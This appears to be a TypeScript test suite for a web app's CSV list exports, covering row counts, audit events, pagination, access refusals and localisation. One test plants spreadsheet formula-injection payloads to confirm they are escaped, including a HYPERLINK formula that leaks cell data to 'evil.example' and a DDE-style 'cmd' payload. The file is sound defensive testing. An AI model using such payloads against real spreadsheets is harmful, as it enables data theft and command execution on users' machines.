import { LIST_PAGES } from '@traject/domain/export/exported-lists'
import { afterAll, describe, expect, it } from 'vitest'
import { ITEMS_A_PIECE } from '../src/export/catalogue.ts'
import { cellsOf, exportDesk, fileOf, ORIGIN } from './export-desk.ts'
import { refusal } from './test-api.ts'

const desk = await exportDesk()
const { prisma, world, lists, lead, keeper, company, coach, omar } = desk
afterAll(() => desk.drop())

const events = () =>
  prisma.auditEvent.findMany({ where: { action: 'list.exported' }, orderBy: { id: 'asc' } })
const rowsOf = async (...asked: Parameters<typeof fileOf>) =>
  cellsOf((await fileOf(...asked)).text).slice(1)
const statementsOf = async (work: () => Promise<unknown>) => {
  const statements: string[] = []
  const stop = desk.database.onStatement((sql) => statements.push(sql))
  await work()
  stop()
  return statements
}

describe('every list', () => {
  it('is here', () => {
    expect(lists.map(([name]) => name).sort()).toEqual(Object.keys(LIST_PAGES).sort())
  })

  it.each(lists)('%s has a row for each of its own, and leaves one event', async (...asked) => {
    const [name, by, query] = asked
    const before = await events()
    const { text, fileName } = await fileOf(by, name, query)
    const [headings = [], ...rows] = cellsOf(text)
    expect(rows.length).toBeGreaterThan(0)
    expect(rows.every((row) => row.length === headings.length)).toBe(true)
    expect(fileName).toMatch(/^[a-zé ]+ 2036-06-16\.csv$/)
    const left = (await events()).slice(before.length)
    expect(left.map((one) => [one.subjectType, one.subjectId, one.rows])).toEqual([
      [name, null, rows.length],
    ])
  })

  it('says whose eyes and for whom it was taken out', async () => {
    await fileOf(lead, 'houses')
    expect((await events()).at(-1)).toMatchObject({
      actorPersonId: lead.person.id,
      organisationId: world.harbour.id,
      partnershipId: world.partnershipId,
      gate: 'auth-session',
    })
  })

  it.each([
    'begin',
    '=HYPERLINK("https://evil.example?x="&A1;"open")',
    '+32+cmd|x',
    '-2+3',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '  =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '\u200b@x',
  ])('computes nothing of %j in a spreadsheet', async (planted) => {
    // Wherever people write, and in every list at once.
    await prisma.$executeRaw`update item_text set title = ${planted}, summary = ${planted}`
    await prisma.$executeRaw`update organisation set name = ${planted}`
    await prisma.$executeRaw`update person set name = ${planted}`
    await prisma.$executeRaw`update sme set name = ${planted}`
    await prisma.$executeRaw`update step_text set title = ${planted}`
    await prisma.$executeRaw`update resource_assignment set reason = ${planted}`
    await prisma.$executeRaw`update concept_label set label = ${planted} where concept_id = 'aspect/geld'`
    await prisma.$executeRaw`update contact_detail set name = ${planted}`
    await prisma.$executeRaw`update partnership set name = ${planted}, programme = ${planted}`
    for (const [name, by, query] of lists) {
      const cells = cellsOf((await fileOf(by, name, query)).text).flat()
      const computed = cells.filter((cell) => /^[\s\u200b]*[=+\-@＝]|^[\t\r\n]/u.test(cell))
      expect(computed, name).toEqual([])
      expect(cells, name).toContain(planted === 'begin' ? planted : `'${planted}`)
    }
  })
})

describe('the catalogue', () => {
  /** As many of them more, by one statement each. */
  const copies = async (count: number) => {
    await prisma.$executeRaw`
      with copies as (
        insert into item select (jsonb_populate_record(i, jsonb_build_object(
          'id', gen_random_uuid(), 'published_at', timestamptz '2026-01-01' + n * interval '1 minute'))).*
        from item i, generate_series(1, ${count}::int) n where i.id = ${desk.item.id}::uuid
        returning id)
      insert into item_text select (jsonb_populate_record(t, jsonb_build_object(
        'item_id', c.id, 'title', 'Copy ' || c.id))).*
      from item_text t, copies c where t.item_id = ${desk.item.id}::uuid`
  }

  it('is given under the filters of its page, in the order of its page', async () => {
    await copies(60)
    const filter = { kind: 'resource', house: world.harbour.id } as const
    const shown: string[] = []
    let after: string | undefined
    do {
      const page = await lead.ask((call) =>
        call.item.list({ ...filter, ...(after ? { after } : {}) }),
      )
      shown.push(...page.items.map(({ id }) => `${ORIGIN}/items/${id}`))
      after = page.next ?? undefined
    } while (after)
    expect(shown.length).toBeGreaterThan(60)
    // Where its page begins is nothing to it.
    const rows = await rowsOf(lead, 'catalogue', { ...filter, after: desk.item.id })
    expect(rows.map((row) => row.at(-1))).toEqual(shown)
    expect(await rowsOf(lead, 'catalogue', { ...filter, house: world.mill.id })).toEqual([])
  })

  it('takes a statement for each piece, whatever is in it, and one more for its event', async () => {
    const pieces = (statements: string[]) =>
      statements.filter((sql) => sql.includes('found as not materialized')).length
    const few = await statementsOf(() => fileOf(lead, 'catalogue'))
    expect(pieces(few)).toBe(1)
    await copies(2 * ITEMS_A_PIECE)
    const many = await statementsOf(() => fileOf(lead, 'catalogue'))
    expect(pieces(many)).toBe(3)
    expect(many.length - few.length).toBe(2)
    // Nothing is counted for nobody.
    expect(many.join()).not.toContain('facets')
  })

  it('is read no further when nobody takes it, and says how much was given', async () => {
    const before = (await events()).length
    const statements = await statementsOf(() =>
      lead.ask(async (call) => {
        const { text } = await call.export.list({ name: 'catalogue', query: {}, origin: ORIGIN })
        await text.next()
        await text.next()
        await text.return(undefined)
      }),
    )
    const pieces = statements.filter((sql) => sql.includes('found as not materialized'))
    expect(pieces).toHaveLength(2)
    expect((await events()).slice(before).map(({ rows }) => rows)).toEqual([ITEMS_A_PIECE])
  })

  it('shows a company and a house what each sees', async () => {
    const mine = await world.item('Alleen voor het huis', { visibility: 'organisation' })
    const hasMine = async (by: Parameters<typeof fileOf>[0]) =>
      (await fileOf(by, 'catalogue', { kind: 'resource' })).text.includes(mine.id)
    expect([await hasMine(lead), await hasMine(company)]).toEqual([true, false])
  })
})

describe('nobody takes out', () => {
  it('what he is refused on its page', async () => {
    expect(await refusal(fileOf(keeper, 'contacts-due'))).toMatchObject({ message: 'forbidden' })
    expect(await refusal(fileOf(company, 'contacts-due'))).toMatchObject({ message: 'forbidden' })
    for (const query of [{ track: company.trackId }, { track: 'nothing' }]) {
      const asked = fileOf(keeper, 'steps', query)
      expect(await refusal(asked)).toMatchObject({ message: 'not-found' })
    }
    expect(await refusal(fileOf(lead, 'partnerships'))).toMatchObject({ message: 'not-found' })
    expect(await refusal(fileOf(omar, 'catalogue'))).toMatchObject({ message: 'not-found' })
  })

  it('leaving an event where nothing was given', async () => {
    const before = (await events()).length
    await refusal(fileOf(keeper, 'contacts-due'))
    expect(await events()).toHaveLength(before)
  })

  it('addresses of people whom he does not manage', async () => {
    const addresses = async (by: Parameters<typeof fileOf>[0]) =>
      (await rowsOf(by, 'people')).map((row) => row[1]).filter(Boolean).length
    expect(await addresses(lead)).toBeGreaterThan(0)
    expect(await addresses(coach)).toBe(0)
  })

  it('what was assigned on a track that he reads as a summary', async () => {
    const track = { track: company.trackId }
    expect(await rowsOf(lead, 'assignments', track)).toEqual([])
    expect(await rowsOf(coach, 'assignments', track)).toHaveLength(1)
  })
})

describe('a table is said', () => {
  it.each([
    ['en', 'houses 2036-06-16.csv', 'House,Role', 'partner,Flanders'],
    ['fr', 'maisons 2036-06-16.csv', 'Maison;Rôle', 'partenaire;Flandre'],
    ['nl', 'huizen 2036-06-16.csv', 'Huis;Rol', 'partner;Vlaanderen'],
  ] as const)('in the reader’s language: %s', async (language, name, headings, words) => {
    await prisma.person.update({ where: { id: lead.person.id }, data: { language } })
    const { fileName, text } = await fileOf(lead, 'houses')
    expect(fileName).toBe(name)
    expect(text.startsWith(`\ufeff${headings}`)).toBe(true)
    expect(text).toContain(words)
  })

  it('with days as numbers, and the language of a text beside it', async () => {
    await prisma.person.update({ where: { id: lead.person.id }, data: { language: 'nl' } })
    await prisma.person.update({ where: { id: coach.person.id }, data: { language: 'nl' } })
    const [row = []] = await rowsOf(coach, 'assignments', { track: company.trackId })
    expect(row.slice(1, 2)).toEqual(['Nederlands'])
    expect(row[8]).toMatch(/^\d{4}-\d\d-\d\d$/)
    expect(row.at(-1)).toMatch(`${ORIGIN}/tracks/${company.trackId}/assignments/`)
  })
})
